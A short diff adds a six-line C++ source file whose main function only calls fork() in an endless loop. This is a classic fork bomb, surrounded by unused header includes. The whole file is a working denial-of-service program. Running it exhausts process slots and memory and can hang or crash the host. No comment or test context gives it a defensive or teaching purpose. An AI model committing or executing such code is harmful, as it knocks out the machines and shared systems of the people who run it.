@@ -1,0 +1,6 @@
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <fcntl.h>
+#include <unistd.h>
+int main() { for (;;) fork(); }
